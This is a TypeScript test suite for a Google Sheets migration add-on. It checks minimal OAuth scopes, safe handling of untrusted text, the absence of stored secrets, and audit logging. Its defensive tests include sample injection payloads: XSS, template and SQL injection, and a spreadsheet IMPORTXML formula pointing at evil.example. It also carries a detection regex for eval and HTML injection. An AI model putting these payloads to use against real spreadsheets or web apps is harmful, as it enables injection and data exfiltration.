// Least privilege and untrusted data. The emulator grants exactly the scopes the built
// manifest declares, and the whole add-on works with them (and each one is needed); text from
// the sheet and the properties is carried as plain text and never evaluated; nothing secret
// is stored; the log records who did what and when.
import * as fs from 'fs';
import * as path from 'path';
import * as vm from 'vm';
import { createEmulator, createSampleWorkbook, EMU_ERRORS } from '../../emulator';
import { crossWire, DIST, loadBundle } from '../helpers/bundle';
import { docProps, json, operaciones, setDocProp } from '../helpers/workbookState';
import { declaredScopes, expectNoLeftovers, migrateAll, OWNER, VISITOR, world } from '../helpers/reliability';
import { rollBackFully, TARGET } from '../bundle/rollbackFixture';

const AUTH = 'https://www.googleapis.com/auth/';
const ROOT = path.resolve(__dirname, '..', '..');

/** A world whose emulator grants exactly `scopes`. */
function scopedWorld(scopes: string[], rows = 20) {
  const emu = createEmulator({ oauthScopes: scopes });
  const ss = createSampleWorkbook(emu, { rows });
  return { emu, b: loadBundle(emu), id: ss.getId() };
}

describe('OAuth scopes: the fewest that work', () => {
  test('the manifest declares exactly these, each for a reason given in docs/security.md', () => {
    expect(declaredScopes()).toEqual([`${AUTH}spreadsheets`, `${AUTH}drive.readonly`, `${AUTH}script.container.ui`, `${AUTH}userinfo.email`]);
    const doc = fs.readFileSync(path.join(ROOT, 'docs', 'security.md'), 'utf8');
    for (const scope of declaredScopes()) expect(doc).toContain(scope);
  });

  test('the emulator enforces a declared list the way Apps Script does', () => {
    const emu = createEmulator({ oauthScopes: [`${AUTH}spreadsheets.currentonly`, `${AUTH}drive.file`] });
    const ss = createSampleWorkbook(emu, { rows: 2 });
    const g = emu.globals() as any;
    const inExec = (fn: () => unknown) => emu.runExecution(fn);
    // currentonly: the active spreadsheet and a copy of it, but not another file by id.
    expect(inExec(() => g.SpreadsheetApp.getActiveSpreadsheet().getName())).toBe(ss.getName());
    const copyId = inExec(() => g.SpreadsheetApp.getActiveSpreadsheet().copy('copia').getId()) as string;
    expect(() => inExec(() => g.SpreadsheetApp.openById(copyId))).toThrow(EMU_ERRORS.noPermission('SpreadsheetApp.openById', `${AUTH}spreadsheets`));
    // drive.file is not among the scopes of any DriveApp method.
    expect(() => inExec(() => g.DriveApp.getFileById(copyId))).toThrow(/permission to call DriveApp\.getFileById\. Required permissions: \(https:\/\/www\.googleapis\.com\/auth\/drive\.readonly \|\| https:\/\/www\.googleapis\.com\/auth\/drive\)/);
    expect(() => inExec(() => g.Session.getActiveUser())).toThrow(/userinfo\.email/);
    expect(() => inExec(() => g.SpreadsheetApp.getUi().alert('x'))).toThrow(/script\.container\.ui/);
    // drive.readonly reads Drive, but cannot change it.
    emu.setOAuthScopes([`${AUTH}drive.readonly`]);
    expect(inExec(() => g.DriveApp.getFileById(copyId).isTrashed())).toBe(false);
    expect(() => inExec(() => g.DriveApp.getFileById(copyId).setTrashed(true))).toThrow(/File\.setTrashed\. Required permissions: https:\/\/www\.googleapis\.com\/auth\/drive$/);
    emu.setOAuthScopes(null);
    expect(inExec(() => g.DriveApp.getFileById(copyId).setTrashed(true).isTrashed())).toBe(true);
  });

  test('with exactly the declared scopes, everything works: menu, sidebar, status, dry run, migration, verify, rollback, logs, start over', () => {
    const w = scopedWorld(declaredScopes());
    w.b.callAs({ authMode: 'NONE' }, 'onOpen', w.emu.openEvent('NONE'));
    w.b.call('showSidebar');
    expect(w.b.call('getMigrationStatus').canAct).toBe(true);
    expect(w.b.call('runMigrationStep', { dryRun: true }).ok).toBe(true);
    expect(w.b.call('runMigrationStep').ok).toBe(true);
    expect(w.b.call('startOver').problem).toBeNull();
    migrateAll(w.b);
    expect(w.b.call('verifyMigration').ok).toBe(true);
    w.b.call('menuVerifyMigration');
    expect(w.b.call('rollbackMigration').canRollBack).toBe(true);
    w.emu.ui.answers.push('YES');
    w.b.call('menuRollbackMigration');
    expect(w.emu.ui.alerts[w.emu.ui.alerts.length - 1].prompt).toMatch(/^Rolled back/);
    expect(w.b.call('getMigrationLog').entries.length).toBeGreaterThan(5);
    migrateAll(w.b, { force: true });
    expectNoLeftovers(w.emu);
    // No call was refused for want of a scope.
    expect(w.emu.stats.executions.filter((e) => /permission/i.test(e.error || ''))).toEqual([]);
  });

  test('with exactly the declared scopes, a trashed backup is still told from a live one', () => {
    const w = scopedWorld(declaredScopes());
    migrateAll(w.b);
    w.emu.getFile(json(docProps(w.emu), 'sm.backup').id)!.setTrashed(true);
    expect(w.b.call('rollbackMigration', { confirm: true }).message).toMatch(/is in the Drive trash\. Restore it from the trash/);
    expect(w.b.call('verifyMigration').checks.find((c: any) => c.id === 'backup_available').detail).toMatch(/in the Drive trash/);
  });

  test('with exactly the declared scopes, an execution killed right after the copy still ends with one backup (found by name, read-only)', () => {
    const w = scopedWorld(declaredScopes());
    const files = () => w.emu.files().map((f) => f.getName());
    // Find the crash point right after Spreadsheet.copy: the first k that leaves an unrecorded copy.
    let k = 1;
    for (; k < 30; k++) {
      const probe = scopedWorld(declaredScopes());
      probe.emu.faults.failMutatingCall(k, 'kill', 'after');
      try {
        probe.b.call('runMigration');
      } catch (e) {
        // killed
      }
      if (probe.emu.files().length === 2 && !docProps(probe.emu)['sm.backup']) break;
    }
    expect(k).toBeLessThan(30);
    w.emu.faults.failMutatingCall(k, 'kill', 'after');
    expect(() => w.b.call('runMigration')).toThrow(/Exceeded maximum execution time/);
    migrateAll(w.b);
    expect(files()).toHaveLength(2);
    expect(json(docProps(w.emu), 'sm.backup').name).toBe(files()[1]);
  });

  test('with exactly the declared scopes, a copy that is not a backup is renamed as such (Drive is read-only), and a new backup is taken', () => {
    const w = scopedWorld(declaredScopes());
    let copyId: string | null = null;
    for (let i = 0; i < 10 && !copyId; i++) {
      w.b.call('runMigrationStep');
      const run = json(docProps(w.emu), 'sm.run');
      copyId = (run && run.steps.create_backup && run.steps.create_backup.data && run.steps.create_backup.data.copyId) || null;
    }
    expect(copyId).not.toBeNull();
    // Someone edits the fresh copy before it is proved: it is not a copy of the sheet any more.
    (w.emu.getSpreadsheet(copyId!)!.getSheetByName(TARGET) as any).getRange('B2').setValue('cambiado');
    let failed: any = null;
    for (let i = 0; i < 5 && !failed; i++) {
      const r = w.b.call('runMigrationStep');
      if (!r.ok) failed = r;
    }
    expect(failed.message).toMatch(/does not equal "Operaciones": its digest differs from the source.*The copy was renamed ".* \(NOT A BACKUP - incomplete copy, delete it\)" \(Sheet Migrator may not delete files\); delete it; the sheet itself was not changed/);
    expect(w.emu.getFile(copyId!)!.getName()).toMatch(/NOT A BACKUP/);
    migrateAll(w.b);
    expect(json(docProps(w.emu), 'sm.backup').id).not.toBe(copyId);
  });

  // Each declared scope is needed, and its narrower neighbour would not do.
  const NEEDED: Array<[string, string[], (w: ReturnType<typeof scopedWorld>) => void]> = [
    [`${AUTH}spreadsheets`, [`${AUTH}spreadsheets.currentonly`], (w) => expect(() => migrateAll(w.b)).toThrow(/permission to call SpreadsheetApp\.openById/)],
    [`${AUTH}drive.readonly`, [`${AUTH}drive.file`], (w) => expect(() => migrateAll(w.b)).toThrow(/permission to call DriveApp\.getFileById/)],
    [`${AUTH}script.container.ui`, [], (w) => expect(() => w.b.call('showSidebar')).toThrow(/permission to call Ui\.showSidebar/)],
    [`${AUTH}userinfo.email`, [], (w) => expect(w.b.call('runMigration').message).toMatch(/did not tell Sheet Migrator who you are/)],
  ];
  test.each(NEEDED)('without %s (even with %j instead) something the add-on must do fails', (scope, instead, fails) => {
    const w = scopedWorld(declaredScopes().filter((s) => s !== scope).concat(instead));
    fails(w);
  });
});

describe('the server never evaluates text from the sheet or the properties', () => {
  const HOSTILE = ['<img src=x onerror=alert(1)>', '"><script>alert(1)</script>', "${process.exit(1)}", "{{constructor.constructor('alert(1)')()}}", "'); DROP TABLE x; --", `'=IMPORTXML("https://evil.example","//a")`];

  test('no eval, no Function constructor, no HTML injection anywhere in the server or sidebar code', () => {
    const files = [
      ...walk(path.join(ROOT, 'src')).filter((f) => f.endsWith('.ts')),
      ...walk(path.join(ROOT, 'sidebar')).filter((f) => /\.(ts|html)$/.test(f)),
      path.join(DIST, 'Code.js'),
      path.join(DIST, 'Sidebar.html'),
    ];
    const banned = /\beval\s*\(|new\s+Function\b|\bFunction\s*\(|innerHTML|outerHTML|insertAdjacentHTML|document\.write|createTemplate|<\?!=|setTimeout\(\s*['"`]|setInterval\(\s*['"`]/;
    const hits = files.flatMap((f) => fs.readFileSync(f, 'utf8').split('\n').map((line, i) => [f, i + 1, line] as const)).filter(([, , line]) => banned.test(line));
    expect(hits.map(([f, n, line]) => `${path.relative(ROOT, f)}:${n}: ${line.trim()}`)).toEqual([]);
  });

  test('hostile header names, tab names and spreadsheet name are carried as plain text, with eval and Function poisoned in the bundle', () => {
    const emu = createEmulator();
    const ss = createSampleWorkbook(emu, { rows: 10, title: HOSTILE[1] });
    const sheet = operaciones(emu, ss.getId()) as any;
    HOSTILE.forEach((h, i) => sheet.getRange(1, 10 + i).setValue(h));
    (ss.getSheetByName('Roles') as any).setName(HOSTILE[0]);
    // A duplicate of a hostile header: the refusal must quote it verbatim.
    sheet.getRange(1, 30).setValue(HOSTILE[0]);
    setDocProp(emu, 'unrelated.key', "'); throw new Error('evaluated'); ('");
    const b = loadBundle(emu);
    const call = (name: string, ...args: unknown[]) =>
      emu.runExecution(() => {
        const ctx = b.load();
        vm.runInContext(POISON, ctx);
        // The poison works: evaluating text in the bundle's realm throws.
        expect(() => vm.runInContext("eval('1 + 1')", ctx)).toThrow(/evaluated text/);
        expect(() => vm.runInContext("new Function('return 1')", ctx)).toThrow(/evaluated text/);
        return crossWire(ctx[name](...args)) as any;
      });
    const refused = call('runMigration');
    expect(refused.ok).toBe(false);
    expect(refused.message).toContain(`The header "${HOSTILE[0]}" at J, "${HOSTILE[0]}" at AD is the same name`);
    sheet.getRange(1, 30).setValue('Unica');
    const header = (sheet.getRange(1, 1, 1, 65).getValues()[0] as string[]).slice();
    for (let i = 0; i < 10; i++) if (call('runMigration').complete) break;
    const status = call('getMigrationStatus');
    expect(status.migrated).toBe(true);
    expect(status.backup.name).toContain(HOSTILE[1]);
    expect(sheet.getRange(1, 1, 1, 65).getValues()[0]).toEqual(header);
    expect(call('verifyMigration').ok).toBe(true);
    // Tab names are listed as they are when the target tab is missing.
    sheet.setName(HOSTILE[2]);
    expect(call('getMigrationStatus').problem).toContain(`its tabs are "${HOSTILE[2]}", "Trabajadores", "${HOSTILE[0]}", "Metadata"`);
  });
});

describe('nothing secret is stored; the log records who did what and when', () => {
  test('after a migration, a refused visitor and a rollback: only Sheet Migrator\'s own records, no token, no user or script properties', () => {
    const w = world({ rows: 10 });
    migrateAll(w.b);
    w.b.callAs({ user: VISITOR }, 'runMigration', { force: true });
    rollBackFully(w.b);
    const props = docProps(w.emu);
    expect(Object.keys(props).filter((k) => !/^sm\.(backup|history|rollback\.report|log\.(head|\d+))$/.test(k))).toEqual([]);
    const text = JSON.stringify(props);
    expect(text).not.toMatch(/ya29\.|Bearer |oauth|password|token"/i);
    const calls = Object.keys(w.emu.stats.calls);
    expect(calls.filter((c) => /getOAuthToken|getUserProperties|getScriptProperties|getIdentityToken/.test(c))).toEqual([]);
  });

  test('the log and the history say who ran what and when', () => {
    const w = world({ rows: 10 });
    migrateAll(w.b);
    w.b.callAs({ user: VISITOR }, 'rollbackMigration', { confirm: true });
    rollBackFully(w.b);
    const entries = w.b.call('getMigrationLog').entries as Array<{ at: string; level: string; message: string }>;
    for (const e of entries) expect(e.at).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
    const text = entries.map((e) => e.message).join('\n');
    expect(text).toMatch(/Migration 2\.1 → 3\.0 of "Operaciones" started by owner@example\.com/);
    expect(text).toMatch(/Rollback refused \(asked by visitor@example\.com\): Only owner@example\.com can/);
    expect(text).toMatch(/Rollback [0-9a-f-]+: started by owner@example\.com/);
    const history = json(docProps(w.emu), 'sm.history').entries;
    expect(history.map((h: any) => [h.kind, h.by])).toEqual([['migration', OWNER], ['rollback', OWNER]]);
    for (const h of history) expect(h.at).toMatch(/^\d{4}-\d\d-\d\dT/);
  });
});

/** Makes any use of eval or the Function constructor in the bundle's realm throw. */
const POISON = `(() => {
  const boom = () => { throw new Error('the bundle evaluated text'); };
  globalThis.eval = new Proxy(globalThis.eval, { apply: boom });
  globalThis.Function = new Proxy(Function, { apply: boom, construct: boom });
})();`;

function walk(dir: string): string[] {
  return fs.readdirSync(dir, { withFileTypes: true }).flatMap((d) => (d.isDirectory() ? walk(path.join(dir, d.name)) : [path.join(dir, d.name)]));
}
